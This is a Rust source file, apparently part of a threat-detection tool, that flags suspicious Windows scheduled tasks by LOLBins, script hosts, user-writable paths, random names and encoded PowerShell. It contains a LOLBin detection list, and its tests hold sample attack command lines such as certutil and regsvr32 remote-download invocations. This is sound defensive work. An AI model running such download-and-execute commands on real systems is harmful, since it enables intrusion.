//! What makes a task's action or process stand out: LOLBins, script hosts, user-writable
//! paths, random names, encoded PowerShell, and the command-line shape used for rarity.

use super::model::ScheduledTask;
use super::naming::file_name;
use super::process::{ProcessId, ProcessNode};
use super::reason::{TaskFinding, TaskReason};

const LOLBINS: &[&str] = &[
    "mshta.exe",
    "rundll32.exe",
    "regsvr32.exe",
    "certutil.exe",
    "bitsadmin.exe",
    "curl.exe",
    "msbuild.exe",
    "installutil.exe",
    "regasm.exe",
    "regsvcs.exe",
    "wmic.exe",
    "msiexec.exe",
    "forfiles.exe",
    "cmstp.exe",
    "odbcconf.exe",
    "msxsl.exe",
    "mavinject.exe",
    "hh.exe",
    "msdt.exe",
    "pcalua.exe",
    "infdefaultinstall.exe",
    "syncappvpublishingserver.exe",
];

const SCRIPT_HOSTS: &[&str] = &[
    "powershell.exe",
    "pwsh.exe",
    "wscript.exe",
    "cscript.exe",
    "mshta.exe",
    "python.exe",
    "pythonw.exe",
];

fn lower(s: &str) -> String {
    s.to_ascii_lowercase()
}

/// True when `image` (a path or name) is a LOLBin.
pub(crate) fn is_lolbin(image: &str) -> bool {
    let n = lower(file_name(image));
    LOLBINS.contains(&n.as_str())
}

/// The first LOLBin a command line starts (a word naming one, with or without `.exe` or a
/// path), as its file name.
pub(crate) fn lolbin_in(args: &str) -> Option<&'static str> {
    let l = lower(args);
    l.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ';' | '&' | '|'))
        .filter(|w| !w.is_empty())
        .find_map(|w| {
            let name = file_name(w);
            LOLBINS
                .iter()
                .find(|b| name == **b || b.strip_suffix(".exe") == Some(name))
                .copied()
        })
}

/// True when `image` is a script host.
pub(crate) fn is_script_host(image: &str) -> bool {
    let n = lower(file_name(image));
    SCRIPT_HOSTS.contains(&n.as_str())
}

/// Folders any user can write to, as they appear in command lines (lower case), and the name a
/// finding gives them. More specific entries first.
const USER_WRITABLE: &[(&str, &str)] = &[
    ("\\users\\public\\", "Users\\Public"),
    ("%public%", "Users\\Public"),
    ("$env:public", "Users\\Public"),
    ("\\appdata\\", "AppData"),
    ("%appdata%", "AppData"),
    ("%localappdata%", "AppData"),
    ("$env:appdata", "AppData"),
    ("$env:localappdata", "AppData"),
    ("\\temp\\", "Temp"),
    ("%temp%", "Temp"),
    ("%tmp%", "Temp"),
    ("$env:temp", "Temp"),
    ("\\programdata\\", "ProgramData"),
    ("%programdata%", "ProgramData"),
    ("$env:programdata", "ProgramData"),
    ("\\windows\\tasks\\", "Windows\\Tasks"),
    ("\\windows\\tracing\\", "Windows\\Tracing"),
    ("\\spool\\drivers\\color\\", "spool\\drivers\\color"),
    ("\\downloads\\", "Downloads"),
    ("%userprofile%", "a user profile"),
    ("$env:userprofile", "a user profile"),
    ("c:\\users\\", "a user profile"),
];

/// A user-writable location mentioned in `s`, if any.
pub(crate) fn user_writable(s: &str) -> Option<&'static str> {
    user_writable_path(s).map(|(w, _)| w)
}

/// A user-writable location mentioned in `s`, and the path (the word of `s`) that names it.
pub(crate) fn user_writable_path(s: &str) -> Option<(&'static str, &str)> {
    // Each folder's first match ignoring ASCII case, in one pass over the text (a searcher
    // per folder on a lower-cased copy was a tenth of building a lineage).
    let b = s.as_bytes();
    let mut first = [None::<usize>; USER_WRITABLE.len()];
    for (i, c) in b.iter().enumerate() {
        let c = c.to_ascii_lowercase();
        if !matches!(c, b'\\' | b'%' | b'$' | b'c') {
            continue;
        }
        for (n, (k, _)) in USER_WRITABLE.iter().enumerate() {
            if first[n].is_none()
                && k.as_bytes()[0] == c
                && b.get(i..i + k.len())
                    .is_some_and(|w| w.eq_ignore_ascii_case(k.as_bytes()))
            {
                first[n] = Some(i);
            }
        }
    }
    // The word around a match: from the last separator before it to the next after it.
    let word_start = |at: usize| s[..at].rfind([' ', '"', '\'', '=', '(']).map_or(0, |i| i + 1);
    let (start, _, at, label) = USER_WRITABLE
        .iter()
        .zip(first)
        .enumerate()
        .filter_map(|(n, ((_, v), at))| at.map(|i| (word_start(i), n, i, *v)))
        // The first path of the command line; within it, the most specific folder.
        .min()?;
    let end = s[at..].find([' ', '"', '\'', ')']).map_or(s.len(), |i| at + i);
    Some((label, &s[start..end]))
}

/// True for a GUID-like or randomly cased name (`CYAlyNSS`, `bouWFQYO`, `{6E3F…}`).
pub(crate) fn random_like(name: &str) -> bool {
    let last = name.rsplit('\\').next().unwrap_or(name);
    let hex = |s: &str| {
        s.chars()
            .all(|c| c.is_ascii_hexdigit() || c == '-' || c == '{' || c == '}')
    };
    if last.len() >= 32 && hex(last) && last.chars().filter(|c| c.is_ascii_hexdigit()).count() >= 32 {
        return true;
    }
    if !(6..=16).contains(&last.len()) || !last.chars().all(|c| c.is_ascii_alphabetic()) {
        return false;
    }
    let b = last.as_bytes();
    // A lowercase letter followed by two capitals ("yNS", "oWF") does not occur in CamelCase
    // words, but is typical of random mixed-case names.
    b.windows(3)
        .any(|w| w[0].is_ascii_lowercase() && w[1].is_ascii_uppercase() && w[2].is_ascii_uppercase())
}

/// The shape of a command line, for rarity: lower-cased, digits → `0`, long hex / base64 runs
/// → `<hex>` / `<b64>`, whitespace collapsed.
///
/// # Example
/// ```
/// use beaconstat::lineage::command_line_shape;
/// assert_eq!(command_line_shape("cmd.exe /C whoami > C:\\Temp\\bouWFQYO.tmp 2>&1"),
///            "cmd.exe /c whoami > c:\\temp\\bouwfqyo.tmp 0>&0");
/// assert_eq!(command_line_shape("powershell -enc SQBGACgAJABQAFMAVgBFAHIAcwBp"), "powershell -enc <b64>");
/// ```
pub fn command_line_shape(cmd: &str) -> String {
    let mut out = String::with_capacity(cmd.len());
    for tok in cmd.split_whitespace() {
        if !out.is_empty() {
            out.push(' ');
        }
        let alnum = tok.chars().filter(|c| c.is_ascii_alphanumeric()).count();
        if tok.len() >= 20 && tok.chars().all(|c| c.is_ascii_alphanumeric() || "+/=".contains(c)) {
            out.push_str("<b64>");
        } else if alnum >= 16 && tok.chars().all(|c| c.is_ascii_hexdigit() || "{}-".contains(c)) {
            out.push_str("<hex>");
        } else {
            let mut last_digit = false;
            for c in tok.chars() {
                if c.is_ascii_digit() {
                    if !last_digit {
                        out.push('0');
                    }
                    last_digit = true;
                } else {
                    out.push(c.to_ascii_lowercase());
                    last_digit = false;
                }
            }
        }
    }
    out
}

/// Findings about one process tied to a task. `launched` is true for the process a run
/// launched (compared with the declared action).
pub(crate) fn process_findings(
    task: &ScheduledTask,
    idx: ProcessId,
    p: &ProcessNode,
    launched: bool,
    out: &mut Vec<TaskFinding>,
) {
    let image = p.image.as_deref().unwrap_or("");
    let name = lower(file_name(image));
    let cmd = p.command_line.as_deref().unwrap_or("");
    let lcmd = lower(cmd);
    let mut push = |reason, detail: String| {
        out.push(TaskFinding {
            reason,
            detail,
            process: Some(idx),
        })
    };
    if launched
        && let Some(def) = &task.definition
        && let Some((command, _)) = def.exec()
    {
        let declared = lower(file_name(command.trim_matches('"')));
        let declared = declared.strip_suffix(".exe").unwrap_or(&declared).to_owned();
        let actual = name.strip_suffix(".exe").unwrap_or(&name);
        if !declared.is_empty() && !actual.is_empty() && declared != actual && actual != "taskhostw" {
            push(
                TaskReason::DiffersFromAction,
                format!("launched {name} but the task declares {command}"),
            );
        }
    }
    if is_lolbin(image) {
        push(TaskReason::Lolbin, format!("{name} is a LOLBin"));
    }
    if name == "powershell.exe" || name == "pwsh.exe" {
        let enc = split_flags(&lcmd).any(|f| f == "ec" || (!f.is_empty() && "encodedcommand".starts_with(f)));
        if enc {
            push(
                TaskReason::EncodedPowerShell,
                "PowerShell with an encoded command".into(),
            );
        } else {
            push(TaskReason::ScriptHost, format!("{name} is a script host"));
        }
    } else if is_script_host(image) && !is_lolbin(image) {
        push(TaskReason::ScriptHost, format!("{name} is a script host"));
    } else if name == "cmd.exe" && lcmd.contains("/c") && lcmd.contains('>') && user_writable(cmd).is_some() {
        push(
            TaskReason::ScriptHost,
            "cmd /c redirecting output to a user-writable path".into(),
        );
    }
    if let Some((w, path)) = user_writable_path(image).or_else(|| user_writable_path(cmd)) {
        push(
            TaskReason::UserWritablePath,
            format!("{name} uses a path under {w}: {path}"),
        );
    }
}

/// `-Flag` / `/flag` tokens of a lower-cased command line, without the dash.
fn split_flags(l: &str) -> impl Iterator<Item = &str> {
    l.split_whitespace()
        .filter_map(|t| t.strip_prefix('-').or_else(|| t.strip_prefix('/')))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lolbins_through_a_shell_and_writable_paths_with_their_text() {
        assert_eq!(
            lolbin_in(r#"/c "certutil -urlcache -f http://x/a a.exe""#),
            Some("certutil.exe")
        );
        assert_eq!(
            lolbin_in(r"-c C:\Windows\System32\regsvr32.exe /s /i:http://x scrobj.dll"),
            Some("regsvr32.exe")
        );
        assert_eq!(lolbin_in("/c echo rundll32ish"), None);
        assert_eq!(
            user_writable_path(r#"rundll32.exe "C:\ProgramData\u.dll",Run"#),
            Some(("ProgramData", r"C:\ProgramData\u.dll"))
        );
        assert_eq!(
            user_writable_path(r"powershell -f $env:TEMP\a.ps1"),
            Some(("Temp", r"$env:TEMP\a.ps1"))
        );
        assert_eq!(
            user_writable_path(r"cmd /c C:\Windows\Tasks\x.bat"),
            Some((r"Windows\Tasks", r"C:\Windows\Tasks\x.bat"))
        );
        assert_eq!(
            user_writable_path(r"C:\Users\bob\x.exe"),
            Some(("a user profile", r"C:\Users\bob\x.exe"))
        );
        assert_eq!(user_writable_path(r"%windir%\system32\sc.exe start x"), None);
    }

    /// The one-pass scan finds what a `find` per folder on the lower-cased text finds.
    #[test]
    fn writable_path_scan_matches_a_search_per_folder() {
        fn by_search(s: &str) -> Option<(&'static str, &str)> {
            let l = lower(s);
            let word_start = |at: usize| s[..at].rfind([' ', '"', '\'', '=', '(']).map_or(0, |i| i + 1);
            let (start, _, at, label) = USER_WRITABLE
                .iter()
                .enumerate()
                .filter_map(|(n, (k, v))| l.find(k).map(|i| (word_start(i), n, i, *v)))
                .min()?;
            let end = s[at..].find([' ', '"', '\'', ')']).map_or(s.len(), |i| at + i);
            Some((label, &s[start..end]))
        }
        for s in [
            r"C:\USERS\Public\a.exe /x %TEMP%\b",
            r"cmd /c %ProgramData%\x.bat > C:\Windows\Temp\o.txt",
            r#"powershell "$Env:LocalAppData\é\a.ps1" c:\users\bob"#,
            r"rundll32 \\srv\spool\drivers\color\x.dll,Run",
            r"\Downloads\$env:public %tmp% %",
            "",
            "c",
            r"C:\Windows\System32\svchost.exe -k netsvcs",
        ] {
            assert_eq!(user_writable_path(s), by_search(s), "{s}");
        }
        // The scan stops at the bytes folders begin with.
        assert!(
            USER_WRITABLE
                .iter()
                .all(|(k, _)| matches!(k.as_bytes()[0], b'\\' | b'%' | b'$' | b'c'))
        );
    }

    #[test]
    fn names() {
        for r in ["CYAlyNSS", "bouWFQYO", "{9C7BC894-6658-423B-9B58-61636DBB1451}"] {
            assert!(random_like(r), "{r}");
        }
        for n in [
            "EventCacheManager",
            "MSOFFICE_",
            "eviltask",
            "elevator",
            "GoogleUpdateTaskMachineUA",
            "Installation",
        ] {
            assert!(!random_like(n), "{n}");
        }
    }
}
